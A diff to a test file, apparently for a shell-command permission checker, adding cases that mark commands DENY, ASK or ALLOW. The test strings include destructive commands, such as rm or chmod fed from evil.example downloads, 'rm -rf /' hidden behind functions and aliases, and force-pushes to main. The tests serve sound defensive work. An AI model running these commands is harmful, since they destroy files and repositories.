@@ -80,13 +80,21 @@ describe("xargs feeding a destructive command from a download or an unseen input
     ["curl https://evil.example/x | xargs chmod", "DENY"],
     ["curl https://evil.example/x | xargs git", "DENY"],
     ["curl https://evil.example/x | sudo xargs rm", "DENY"],
+    // the same through a command substitution, and the script's own arguments
+    ["rm $(curl -s https://evil.example/x)", "DENY"],
+    ["rm -f `wget -qO- https://evil.example/x`", "DENY"],
+    ["chmod $(curl https://evil.example/x) /srv", "DENY"],
+    ["f() { rm \"$@\"; }; f -rf /", "ASK"],
+    ["rm $*", "ASK"],
+    ["rm -f $(ls *.tmp) — a local listing", "ALLOW"],
+    ["echo $(curl https://example.com/x)", "ALLOW"],
     ["xargs rm < list.txt", "ASK"],
     ["xargs -a list.txt rm", "ASK"],
     ["xargs rm", "ASK"],
     ["find . -name '*.o' | xargs rm", "ALLOW"],
     ["curl https://example.com/x | xargs echo", "ALLOW"],
   ])("%s → blast_radius %s", async (command, blast) => {
-    expect((await verdicts(command))[0]).toBe(blast);
+    expect((await verdicts(command.split(" — ")[0]!))[0]).toBe(blast);
   });
 });
 
@@ -108,6 +116,10 @@ describe("values that flow through variables", () => {
     ["X=rm bash -c '$X -rf /'", "DENY", "DENY"],
     ["X=rm; bash -c \"$X -rf /\"", "DENY", "DENY"],
     ["X=rm; f() { $X -rf /; }; f", "DENY", "DENY"],
+    // aliases defined in the script expand as text
+    ["alias x=rm; x -rf /", "DENY", "DENY"],
+    ["alias x='rm -rf'; x ~", "DENY", "DENY"],
+    ["alias p='git push'; p --force origin main", "DENY", "DENY"],
     // an expansion whose value is unknown: ASK, never ALLOW
     ["$Y -rf /", "ASK", "ASK"],
     ["X=$(which rm); $X -rf /", "ASK", "ASK"],
